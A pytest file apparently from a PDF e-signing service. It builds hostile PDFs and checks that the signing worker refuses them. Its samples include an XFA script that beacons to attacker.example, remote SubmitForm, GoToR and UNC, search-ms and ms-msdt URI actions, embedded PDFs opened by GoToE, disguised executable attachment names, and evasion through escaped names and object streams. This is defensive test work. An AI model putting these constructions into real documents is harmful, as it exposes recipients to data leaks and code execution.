"""Issue #8, point 6: PDF policy gaps, each attack built and sent through the signing
worker (``signworker.sign_file``), plain, with #-escaped names and inside compressed
object streams (qpdf), so the byte-search fast path is exercised too."""

from __future__ import annotations

import io
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from econnector import pdfpolicy, signer, signworker
from econnector.errors import CATALOG
from econnector.testid import TestIdentity
from econnector_testsupport.paths import DOCS
from econnector_testsupport.signing import PC, key_spec
from econnector_testsupport.vault import unsigned_pdf

Mutate = Callable[[IncrementalPdfFileWriter], None]
N = generic.NameObject


# -- building the attacks -----------------------------------------------------------


def d(**entries: generic.PdfObject) -> generic.DictionaryObject:
    return generic.DictionaryObject({N("/" + k): v for k, v in entries.items()})


def s(text: str) -> generic.TextStringObject:
    return generic.TextStringObject(text)


def action(kind: str, **extra: generic.PdfObject) -> generic.DictionaryObject:
    return d(S=N(kind), **extra)


def build(mutate: Mutate, base: bytes | None = None) -> bytes:
    """A small invoice-like PDF, changed by ``mutate`` in an incremental update."""
    w = IncrementalPdfFileWriter(io.BytesIO(base or unsigned_pdf("attack")))
    mutate(w)
    w.update_root()
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def stream(w: IncrementalPdfFileWriter, data: bytes, flate: bool = False,
           **entries: generic.PdfObject) -> generic.IndirectObject:
    obj = generic.StreamObject(d(**entries), stream_data=data)
    if flate:
        obj.compress()
    return w.add_object(obj)


def on_catalog(key: str, value: Callable[[IncrementalPdfFileWriter], generic.PdfObject]) -> Mutate:
    def mutate(w: IncrementalPdfFileWriter) -> None:
        w.root[N(key)] = value(w)
    return mutate


def place(where: str, act: generic.DictionaryObject) -> Mutate:
    """Put the action ``act`` where readers run actions."""
    def mutate(w: IncrementalPdfFileWriter) -> None:
        page_ref = w.find_page_for_modification(0)[0]
        ref = w.add_object(act)
        if where == "open-action":
            w.root[N("/OpenAction")] = ref
        elif where == "catalog-aa":
            w.root[N("/AA")] = d(WC=ref)
        elif where == "page-aa":
            page = page_ref.get_object()
            page[N("/AA")] = d(O=ref)
            w.mark_update(page_ref)
        elif where in ("link", "next-chain"):
            if where == "next-chain":  # a harmless first action, the attack second
                ref = w.add_object(action("/GoTo", D=generic.ArrayObject(
                    [page_ref, N("/Fit")]), Next=ref))
            annot = w.add_object(d(Type=N("/Annot"), Subtype=N("/Link"), Rect=generic.ArrayObject(
                [generic.NumberObject(n) for n in (0, 0, 100, 100)]), A=ref))
            w.register_annotation(page_ref, annot)
        elif where == "outline":
            item = w.add_object(d(Title=s("Annex"), A=ref))
            outlines = w.add_object(d(Type=N("/Outlines"), First=item, Last=item,
                                      Count=generic.NumberObject(1)))
            item.get_object()[N("/Parent")] = outlines
            w.root[N("/Outlines")] = outlines
        elif where == "field-aa":
            field = w.add_object(d(
                FT=N("/Tx"), T=s("name"), Type=N("/Annot"), Subtype=N("/Widget"),
                Rect=generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 100, 20)]),
                P=page_ref, AA=d(K=ref)))
            w.register_annotation(page_ref, field)
            w.root[N("/AcroForm")] = d(Fields=generic.ArrayObject([field]))
        else:
            raise AssertionError(where)
    return mutate


XFA_TEMPLATE = (
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f">'
    b'<event activity="initialize"><script contentType="application/x-javascript">'
    b'app.launchURL("http://attacker.example/" + xfa.host.name);</script></event>'
    b"</subform></template>"
)
XFA_PLAIN_TEMPLATE = (
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">'
    b'<subform name="f"><field name="n"/></subform></template>'
)


def xfa(shape: str, flate: bool, template: bytes = XFA_TEMPLATE) -> Mutate:
    """An AcroForm with an XFA form: an array of packets, or one stream."""
    def mutate(w: IncrementalPdfFileWriter) -> None:
        packets = [(b"preamble", b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'),
                   (b"template", template), (b"postamble", b"</xdp:xdp>")]
        value: generic.PdfObject
        if shape == "array":
            value = arr = generic.ArrayObject()
            for name, data in packets:
                arr.append(generic.TextStringObject(name.decode()))
                arr.append(stream(w, data, flate))
        else:
            value = stream(w, b"".join(p for _, p in packets), flate)
        w.root[N("/AcroForm")] = d(Fields=generic.ArrayObject(), XFA=value)
    return mutate


def js_pdf() -> bytes:
    return build(on_catalog("/OpenAction", lambda w: action("/JavaScript", JS=s("app.alert(1)"))))


def embedded_pdf(with_gotoe: str | None, inner: bytes | None = None) -> Mutate:
    """An embedded PDF (with JavaScript in it) and, optionally, a GoToE action opening it."""
    def mutate(w: IncrementalPdfFileWriter) -> None:
        ef = stream(w, inner or js_pdf(), flate=True, Type=N("/EmbeddedFile"),
                    Subtype=N("/application#2Fpdf"))
        spec = w.add_object(d(Type=N("/Filespec"), F=s("annex.pdf"), UF=s("annex.pdf"),
                              EF=d(F=ef)))
        w.root[N("/Names")] = d(EmbeddedFiles=d(Names=generic.ArrayObject([s("annex.pdf"), spec])))
        if with_gotoe:
            go = action("/GoToE", NewWindow=generic.BooleanObject(False),
                        T=d(R=N("/C"), N=s("annex.pdf")))
            place(with_gotoe, go)(w)
    return mutate


def attachment(via: str = "names", key: str = "attachment",
               names: dict[str, generic.PdfObject] | None = None,
               **more: generic.PdfObject) -> Mutate:
    """A file specification with an embedded file, under the given names (F, UF, DOS,
    Mac, Unix), in the catalog's EmbeddedFiles tree or a FileAttachment annotation."""
    def mutate(w: IncrementalPdfFileWriter) -> None:
        ef = stream(w, b"MZ\x90\x00\x03\x00payload", Type=N("/EmbeddedFile"))
        spec = w.add_object(d(Type=N("/Filespec"), EF=d(F=ef), **(names or {}), **more))
        if via == "names":
            w.root[N("/Names")] = d(EmbeddedFiles=d(Names=generic.ArrayObject([s(key), spec])))
        else:
            page_ref = w.find_page_for_modification(0)[0]
            annot = w.add_object(d(Type=N("/Annot"), Subtype=N("/FileAttachment"), FS=spec,
                                   Rect=generic.ArrayObject(
                                       [generic.NumberObject(n) for n in (0, 0, 20, 20)])))
            w.register_annotation(page_ref, annot)
    return mutate


def url_spec(url: str) -> generic.DictionaryObject:
    return d(FS=N("/URL"), F=s(url))


def with_object_streams(data: bytes, tmp_path: Path) -> bytes:
    """``data`` rewritten by qpdf with compressed object streams and streams."""
    from econnector_testsupport.daemon import require_tool

    require_tool("qpdf")
    src, dst = tmp_path / "plain-for-qpdf.pdf", tmp_path / "objstm.pdf"
    src.write_bytes(data)
    r = subprocess.run(["qpdf", "--object-streams=generate", "--compress-streams=y",
                        str(src), str(dst)], capture_output=True)
    assert r.returncode in (0, 3), r.stderr  # 3: succeeded with warnings
    out = dst.read_bytes()
    assert b"/ObjStm" in out
    return out


def sign(data: bytes, tmp_path: Path, name: str = "in") -> signer.SignOutcome:
    src, dst = tmp_path / f"{name}.pdf", tmp_path / f"{name}.signed.pdf"
    src.write_bytes(data)
    out = signworker.sign_file(signer.SignJob(PC, str(src), str(dst), 100, 16384, "Luxembourg"))
    assert out.ok == dst.exists()
    return out


def assert_refused(data: bytes, tmp_path: Path, code: str) -> signer.SignOutcome:
    # whatever the byte search says, the fast path must not skip the walk
    assert pdfpolicy.may_hold_active_content(data)
    out = sign(data, tmp_path)
    assert (out.ok, out.code) == (False, code), out
    return out


def assert_delivered(data: bytes, tmp_path: Path) -> None:
    out = sign(data, tmp_path)
    assert out.ok, out


# -- XFA ---------------------------------------------------------------------------


@pytest.mark.parametrize("flate", [False, True], ids=["plain", "compressed"])
@pytest.mark.parametrize("shape", ["array", "stream"])
def test_xfa_with_javascript_is_refused(worker_signer: None, tmp_path: Path, shape: str,
                                        flate: bool) -> None:
    data = build(xfa(shape, flate))
    assert (b"app.launchURL" in data) is not flate
    assert_refused(data, tmp_path, "pdf-xfa")


def test_xfa_in_an_object_stream_is_refused(worker_signer: None, tmp_path: Path) -> None:
    data = with_object_streams(build(xfa("array", False)), tmp_path)
    assert b"/XFA" not in data and b"app.launchURL" not in data
    assert_refused(data, tmp_path, "pdf-xfa")


def test_xfa_without_scripts_is_refused_too(worker_signer: None, tmp_path: Path) -> None:
    """Decision (docs/pdf-policy.md): any XFA is refused, not only XFA with scripts."""
    assert_refused(build(xfa("stream", True, XFA_PLAIN_TEMPLATE)), tmp_path, "pdf-xfa")


def test_an_acroform_without_xfa_is_delivered(worker_signer: None, tmp_path: Path) -> None:
    assert_delivered(build(on_catalog("/AcroForm", lambda w: d(Fields=generic.ArrayObject()))),
                     tmp_path)


# -- GoToE: a PDF embedded in the PDF, opened by an action --------------------------


@pytest.mark.parametrize("where", ["open-action", "link", "next-chain", "page-aa", "outline"])
def test_gotoe_opening_an_embedded_pdf_is_refused(worker_signer: None, tmp_path: Path,
                                                  where: str) -> None:
    data = build(embedded_pdf(where))
    assert b"/JavaScript" not in data  # the script is inside the compressed attachment
    assert_refused(data, tmp_path, "pdf-embedded-pdf-action")


def test_gotoe_in_an_object_stream_is_refused(worker_signer: None, tmp_path: Path) -> None:
    data = with_object_streams(build(embedded_pdf("open-action")), tmp_path)
    assert b"/GoToE" not in data
    assert_refused(data, tmp_path, "pdf-embedded-pdf-action")


def test_an_embedded_pdf_without_gotoe_is_a_data_attachment(worker_signer: None,
                                                            tmp_path: Path) -> None:
    """Decision (docs/pdf-policy.md): embedded PDFs are not opened and checked; only
    an action that opens one is refused. A plain PDF annex is delivered."""
    assert_delivered(build(embedded_pdf(None, inner=unsigned_pdf("annex"))), tmp_path)


# -- dangerous attachments -----------------------------------------------------------

DANGEROUS = [
    ("trailing-dot", dict(F=s("invoice.exe."), UF=s("invoice.exe."))),
    ("trailing-dots-spaces", dict(UF=s("invoice.exe . . "))),
    ("F-beside-harmless-UF", dict(F=s("setup.exe"), UF=s("factur-x.xml"))),
    ("UF-beside-harmless-F", dict(F=s("factur-x.xml"), UF=s("setup.exe"))),
    ("DOS", dict(F=s("factur-x.xml"), DOS=generic.ByteStringObject(b"SETUP.EXE"))),
    ("Mac", dict(F=s("factur-x.xml"), Mac=generic.ByteStringObject(b"disk:folder:setup.app"))),
    ("Unix", dict(F=s("factur-x.xml"), Unix=generic.ByteStringObject(b"/tmp/run.sh"))),
    ("scf", dict(F=s("explorer.scf"))),
    ("docm", dict(F=s("Befund.docm"), UF=s("Befund.docm"))),
    ("xlsm", dict(UF=s("Rechnung.XLSM"))),
    ("pptm", dict(UF=s("slides.pptm"))),
    ("lnk", dict(UF=s("Befund.pdf.lnk"))),
    ("url", dict(UF=s("portal.url"))),
    ("hta", dict(UF=s("view.hta"))),
    ("upper-case", dict(F=s("INVOICE.EXE"))),
    ("windows-path", dict(F=s("C:\\Users\\x\\Desktop\\run.bat"))),
    ("posix-path", dict(F=s("folder/sub/run.cmd"))),
    ("mixed-path", dict(F=s("a/b\\c.ps1"))),
    ("nul-truncation", dict(F=generic.ByteStringObject(b"setup.exe\x00.pdf"))),
    ("rtl-override", dict(UF=s("invoice\u202efdp.exe"))),
    ("zero-width", dict(UF=s("invoice.e\u200bxe"))),
    ("fullwidth", dict(UF=s("invoice.\uff45\uff58\uff45"))),
    ("ntfs-stream", dict(UF=s("invoice.pdf:evil.vbs"))),
    ("latin1-bytes", dict(F=generic.ByteStringObject(b"Rechnung-M\xfcller.exe"))),
    ("utf16-bytes", dict(F=generic.ByteStringObject("Übersicht.js".encode("utf-16-be")))),
]


@pytest.mark.parametrize("names", [n for _, n in DANGEROUS], ids=[i for i, _ in DANGEROUS])
def test_dangerous_attachments_are_refused(worker_signer: None, tmp_path: Path,
                                           names: dict[str, generic.PdfObject]) -> None:
    out = assert_refused(build(attachment(names=names)), tmp_path, "pdf-embedded-executable")
    shown = out.params["name"]
    assert all(ch.isprintable() for ch in shown), shown  # echoed safely


@pytest.mark.parametrize("via", ["names", "annotation"])
def test_dangerous_attachments_are_refused_wherever_they_are(worker_signer: None, tmp_path: Path,
                                                            via: str) -> None:
    data = build(attachment(via, F=s("invoice.exe."), UF=s("factur-x.xml")))
    assert_refused(data, tmp_path, "pdf-embedded-executable")
    data = with_object_streams(data, tmp_path)
    # the file specification (and the annotation) hide in the object stream; the
    # embedded file stream's own dictionary cannot
    assert b"/UF" not in data and b"/FileAttachment" not in data
    assert_refused(data, tmp_path, "pdf-embedded-executable")


def test_a_dangerous_name_tree_key_is_refused(worker_signer: None, tmp_path: Path) -> None:
    data = build(attachment(key="setup.exe", F=s("factur-x.xml"), UF=s("factur-x.xml")))
    assert_refused(data, tmp_path, "pdf-embedded-executable")


@pytest.mark.parametrize("name", ["factur-x.xml", "ZUGFeRD-invoice.xml", "annex.pdf",
                                  "Befund.docx", "scan.png", "notes.txt", "data.exe.xml",
                                  "exe", "README", "werte.csv"])
def test_data_attachments_are_delivered(worker_signer: None, tmp_path: Path, name: str) -> None:
    assert_delivered(build(attachment(F=s(name), UF=s(name))), tmp_path)


@settings(max_examples=300, deadline=None)
@given(
    base=st.sampled_from(["setup", "Rechnung 2026", "a.pdf", ""]),
    ext=st.sampled_from(sorted(pdfpolicy.DANGEROUS_EXTENSIONS)),
    upper=st.booleans(),
    prefix=st.sampled_from(["", "C:\\tmp\\", "../", "dir/sub\\", "disk:folder:", "\\\\srv\\s\\"]),
    tail=st.sampled_from(["", ".", "..", " ", ". .", " . "]),
    invisible=st.sampled_from(["", "\u202e", "\u200b", "\ufeff", "\x07"]),
    nul=st.sampled_from(["", "\x00.pdf", "\x00.xml"]),
)
def test_decorated_dangerous_names_are_recognised(base: str, ext: str, upper: bool, prefix: str,
                                                  tail: str, invisible: str, nul: str) -> None:
    e = ext.upper() if upper else ext
    name = prefix + base + e[:2] + invisible + e[2:] + tail + nul
    assert pdfpolicy.dangerous_name(name), repr(name)


# -- actions that reach another machine ---------------------------------------------

REMOTE = [
    ("submit-url", action("/SubmitForm", F=url_spec("https://attacker.example/collect"))),
    ("submit-unc", action("/SubmitForm", F=s("\\\\attacker.example\\share\\x"))),
    ("import-unc", action("/ImportData", F=s("\\\\attacker.example\\share\\data.fdf"))),
    ("import-url", action("/ImportData", F=url_spec("http://attacker.example/data.fdf"))),
    ("gotor-unc", action("/GoToR", F=s("\\\\attacker.example\\share\\annex.pdf"),
                         D=generic.ArrayObject([generic.NumberObject(0), N("/Fit")]))),
    ("gotor-slashes", action("/GoToR", F=s("//attacker.example/share/annex.pdf"),
                             D=generic.ArrayObject([generic.NumberObject(0), N("/Fit")]))),
    ("gotor-absolute", action("/GoToR", F=s("/attacker.example/share/annex.pdf"),
                              D=generic.ArrayObject([generic.NumberObject(0), N("/Fit")]))),
    ("gotor-filespec-dict", action("/GoToR", F=d(Type=N("/Filespec"), F=s("annex.pdf"),
                                                 UF=s("\\\\attacker.example\\s\\annex.pdf")),
                                   D=generic.ArrayObject([generic.NumberObject(0), N("/Fit")]))),
    ("gotor-url", action("/GoToR", F=url_spec("smb://attacker.example/share/annex.pdf"),
                         D=generic.ArrayObject([generic.NumberObject(0), N("/Fit")]))),
    ("thread-unc", action("/Thread", F=s("\\\\attacker.example\\share\\t.pdf"),
                          D=generic.NumberObject(0))),
    ("uri-file", action("/URI", URI=generic.ByteStringObject(b"file://attacker.example/share/x"))),
    ("uri-unc", action("/URI", URI=generic.ByteStringObject(b"\\\\attacker.example\\share"))),
    ("uri-search-ms", action("/URI", URI=generic.ByteStringObject(
        b"search-ms:query=x&crumb=location:\\\\attacker.example\\s"))),
    ("uri-ms-msdt", action("/URI", URI=generic.ByteStringObject(b"ms-msdt:/id PCWDiagnostic"))),
]


@pytest.mark.parametrize("act", [a for _, a in REMOTE], ids=[i for i, _ in REMOTE])
def test_remote_actions_are_refused(worker_signer: None, tmp_path: Path,
                                    act: generic.DictionaryObject) -> None:
    out = assert_refused(build(place("open-action", act)), tmp_path, "pdf-remote-action")
    assert out.params["action"] == str(act["/S"]).lstrip("/")


@pytest.mark.parametrize("where", ["open-action", "catalog-aa", "page-aa", "link", "next-chain",
                                   "outline", "field-aa"])
def test_remote_actions_are_refused_wherever_they_are(worker_signer: None, tmp_path: Path,
                                                      where: str) -> None:
    act = action("/SubmitForm", F=s("\\\\attacker.example\\share\\x"))
    assert_refused(build(place(where, act)), tmp_path, "pdf-remote-action")


@pytest.mark.parametrize("kind", ["/SubmitForm", "/ImportData", "/GoToR", "/URI"])
def test_remote_actions_in_object_streams_are_refused(worker_signer: None, tmp_path: Path,
                                                      kind: str) -> None:
    key = "URI" if kind == "/URI" else "F"
    act = action(kind, **{key: s("\\\\attacker.example\\share\\x")})
    data = with_object_streams(build(place("link", act)), tmp_path)
    assert kind.encode() not in data
    assert_refused(data, tmp_path, "pdf-remote-action")


def test_a_file_uri_base_is_refused(worker_signer: None, tmp_path: Path) -> None:
    data = build(on_catalog("/URI", lambda w: d(Base=s("file://attacker.example/share/"))))
    assert_refused(data, tmp_path, "pdf-remote-action")


def test_a_javascript_uri_is_javascript(worker_signer: None, tmp_path: Path) -> None:
    act = action("/URI", URI=generic.ByteStringObject(b" JavaScript:app.alert(1)"))
    assert_refused(build(place("link", act)), tmp_path, "pdf-javascript")


LOCAL = [
    ("web-link", action("/URI", URI=generic.ByteStringObject(b"https://www.cns.lu/"))),
    ("mail-link", action("/URI", URI=generic.ByteStringObject(b"mailto:praxis@example.lu"))),
    ("relative-uri", action("/URI", URI=generic.ByteStringObject(b"faq.html"))),
    ("gotor-relative", action("/GoToR", F=s("annex.pdf"),
                              D=generic.ArrayObject([generic.NumberObject(0), N("/Fit")]))),
    ("goto", action("/GoTo", D=generic.ArrayObject([generic.NumberObject(0), N("/Fit")]))),
    ("named", action("/Named", N=N("/NextPage"))),
]


@pytest.mark.parametrize("act", [a for _, a in LOCAL], ids=[i for i, _ in LOCAL])
def test_local_and_web_actions_are_delivered(worker_signer: None, tmp_path: Path,
                                             act: generic.DictionaryObject) -> None:
    assert_delivered(build(place("link", act)), tmp_path)


# -- #-escaped names: the byte search must still send these to the walk --------------

ESCAPED = [
    (lambda: build(xfa("stream", True)), b"[ ]\n/XFA", b"[]/X#46A", "pdf-xfa"),
    (lambda: build(embedded_pdf("open-action")), b"/S /GoToE\n", b"/S/GoT#6fE",
     "pdf-embedded-pdf-action"),
    (lambda: build(place("link", action("/SubmitForm", F=s("\\\\a.example\\s\\x")))),
     b"/S /SubmitForm\n", b"/S/Submi#74Form", "pdf-remote-action"),
    (lambda: build(place("link", action("/ImportData", F=s("\\\\a.example\\s\\x")))),
     b"/S /ImportData\n", b"/S/Impor#74Data", "pdf-remote-action"),
    (lambda: build(place("link", action("/GoToR", F=s("\\\\a.example\\s\\x")))),
     b"/S /GoToR\n", b"/S/GoT#6fR", "pdf-remote-action"),
    (lambda: build(place("link", action("/URI", URI=s("file://a.example/s")))),
     b"/S /URI\n", b"/S/UR#49", "pdf-remote-action"),
]


@pytest.mark.parametrize("make,plain,escaped,code", ESCAPED, ids=[e[2].decode().split("/")[-1]
                                                                   for e in ESCAPED])
def test_attacks_behind_escaped_names_are_refused(
    worker_signer: None, tmp_path: Path, make: Callable[[], bytes], plain: bytes, escaped: bytes,
    code: str
) -> None:
    data = make()
    assert len(plain) == len(escaped) and data.count(plain) == 1
    data = data.replace(plain, escaped)  # same length: the xref offsets stay right
    name = b"/" + plain.split(b"/")[-1].strip()
    if name != b"/URI":  # a URI action also has a /URI key, spelled out
        assert name not in data
    assert_refused(data, tmp_path, code)


def test_every_token_of_a_refusal_is_searched() -> None:
    """Each key or name the new rules refuse on is one the byte search looks for."""
    for token in (b"/XFA", b"/GoToE", b"/GoToR", b"/SubmitForm", b"/ImportData", b"/Thread",
                  b"/URI", b"/EF", b"/EmbeddedFiles", b"/FileAttachment"):
        assert pdfpolicy.may_hold_active_content(b"%PDF-1.7\n<< " + token + b" 1 >>")
    assert not pdfpolicy.may_hold_active_content(b"%PDF-1.7\n<< /GoTo 1 /Type /Catalog >>")


def test_new_codes_are_documented() -> None:
    policy = (DOCS / "pdf-policy.md").read_text("utf-8")
    contract = (DOCS / "folder-contract.md").read_text("utf-8")
    for code in ("pdf-xfa", "pdf-embedded-pdf-action", "pdf-remote-action",
                 "pdf-embedded-executable"):
        assert code in CATALOG and f"`{code}`" in policy and f"`{code}`" in contract
    for ext in pdfpolicy.DANGEROUS_EXTENSIONS:  # the documented list is the real one
        assert f"`{ext}`" in policy, ext


def test_refusals_through_the_worker_pool(identity: TestIdentity, tmp_path: Path) -> None:
    """The same refusals from a real signing worker process."""
    import asyncio

    cases = {
        "xfa": (build(xfa("array", True)), "pdf-xfa"),
        "gotoe": (build(embedded_pdf("open-action")), "pdf-embedded-pdf-action"),
        "exe": (build(attachment(F=s("setup.exe"), UF=s("factur-x.xml"))),
                "pdf-embedded-executable"),
        "remote": (build(place("link", action("/GoToR", F=s("\\\\a.example\\s\\d.pdf")))),
                   "pdf-remote-action"),
    }
    pool = signer.SigningPool(workers=1, memory_mb=1024, timeout=60.0)

    async def scenario() -> None:
        pool.start([key_spec(identity)], signer.Policy())
        for name, (data, code) in cases.items():
            src = tmp_path / f"{name}.pdf"
            src.write_bytes(data)
            out = await pool.sign(signer.SignJob(PC, str(src), str(tmp_path / f"{name}.out.pdf"),
                                                 100, 16384, "Luxembourg"))
            assert (out.ok, out.code) == (False, code), name

    try:
        asyncio.run(scenario())
    finally:
        pool.stop()


def test_the_daemon_refuses_each_attack_and_keeps_delivering(
    identity: TestIdentity, tmp_path: Path
) -> None:
    """Dropped as a vendor would, into the real daemon: each attack gets its error file
    (nothing signed or sent), and a good document dropped with them is delivered."""
    from econnector_testsupport.daemon import drop, running_daemon, sidecar, write_config

    cases = {
        "att-xfa": (build(xfa("stream", True)), "pdf-xfa"),
        "att-gotoe": (build(embedded_pdf("link")), "pdf-embedded-pdf-action"),
        "att-exe": (build(attachment(F=s("invoice.exe."))), "pdf-embedded-executable"),
        "att-submit": (build(place("open-action", action(
            "/SubmitForm", F=s("\\\\attacker.example\\share\\x")))), "pdf-remote-action"),
    }
    cfg = write_config(tmp_path / "practice", [(PC, identity)])
    with running_daemon(cfg) as dm:
        for i, (stem, (data, _)) in enumerate(cases.items()):
            drop(dm.outbox, stem, data, sidecar(f"ATT-{i}", provider=PC))
        drop(dm.outbox, "att-good", unsigned_pdf("good"), sidecar("ATT-GOOD", provider=PC))
        for stem, (_, code) in cases.items():
            st = dm.wait_outcome(stem)
            assert (st["state"], st["reason"]) == ("rejected", code), (stem, st)
            assert not (dm.inbox / f"{stem}.signed.pdf").exists()
        assert dm.wait_outcome("att-good")["state"] == "delivered"
        assert dm.alive()


# -- the fast path never skips a refusal (property) ------------------------------------

KINDS = ["/SubmitForm", "/ImportData", "/GoToR", "/Thread", "/URI", "/GoToE", "/GoTo", "/Named",
         "/Launch", "/JavaScript", "/Hide", "/ResetForm"]
TARGETS = ["annex.pdf", "\\\\srv\\s\\x", "//srv/s/x", "/srv/s/x", "C:\\x.pdf", "https://a.example/",
           "file:///C:/x", "mailto:a@b.lu", "search-ms:x", "../x.pdf", ""]


@settings(max_examples=60, deadline=None)
@given(
    kind=st.sampled_from(KINDS),
    target=st.sampled_from(TARGETS),
    url=st.booleans(),
    where=st.sampled_from(["open-action", "catalog-aa", "page-aa", "link", "next-chain",
                           "outline", "field-aa"]),
    attach=st.sampled_from([None, "factur-x.xml", "setup.exe.", "x.docm", "annex.pdf"]),
)
def test_the_byte_search_sends_every_refusal_to_the_walk(
    kind: str, target: str, url: bool, where: str, attach: str | None
) -> None:
    from pyhanko.pdf_utils.reader import PdfFileReader

    from econnector.errors import PdfError

    key = {"/URI": "URI", "/JavaScript": "JS"}.get(kind, "F")
    value: generic.PdfObject = url_spec(target) if url and key == "F" else s(target)
    mutations = [place(where, action(kind, **{key: value}))]
    if attach:
        mutations.append(attachment(F=s(attach), UF=s(attach)))

    def mutate(w: IncrementalPdfFileWriter) -> None:
        for m in mutations:
            m(w)

    data = build(mutate)
    try:
        pdfpolicy.check(PdfFileReader(io.BytesIO(data), strict=False), 100)
    except PdfError:
        assert pdfpolicy.may_hold_active_content(data)
